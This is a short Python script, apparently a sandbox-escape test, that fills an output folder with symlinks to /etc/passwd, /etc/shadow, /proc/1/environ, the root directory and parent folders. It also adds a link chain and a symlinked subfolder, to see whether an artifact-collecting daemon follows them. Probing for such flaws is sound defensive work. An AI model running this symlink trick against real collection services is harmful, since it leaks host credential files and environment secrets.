# Leaves symlinks in the output folder pointing at host secrets and folders, a symlinked
# subfolder, and a link chain, hoping the daemon follows them when it collects artifacts.
import os
os.makedirs("output", exist_ok=True)
for name, target in [("passwd", "/etc/passwd"), ("shadow", "/etc/shadow"), ("environ", "/proc/1/environ"),
                     ("etc", "/etc"), ("root", "/"), ("up", ".."), ("chain", "passwd")]:
    os.symlink(target, f"output/{name}")
os.makedirs("output/sub", exist_ok=True)
os.symlink("/etc/hostname", "output/sub/hostname")
open("output/real.txt", "w").write("ok")
print("ATTEMPTED")
